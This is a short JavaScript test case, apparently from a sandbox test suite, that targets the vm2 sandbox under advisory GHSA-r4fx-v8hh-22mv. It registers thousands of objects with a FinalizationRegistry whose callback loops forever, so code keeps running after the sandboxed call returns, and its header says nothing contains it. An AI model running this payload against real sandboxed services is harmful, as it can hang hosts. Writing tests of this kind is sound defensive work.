// Tries: to go on once it has answered, when what it left is collected (vm2, GHSA-r4fx-v8hh-22mv)
// Contained by: nothing
function attack() {
  const loop = () => {
    for (;;);
  }
  if (typeof FinalizationRegistry === 'undefined') return 'nothing'
  const registry = (globalThis.registry = new FinalizationRegistry(loop))
  for (let i = 0; i < 10_000; i++) registry.register({ i, filled: new Array(100).fill(i) }, i)
  return 'nothing'
}
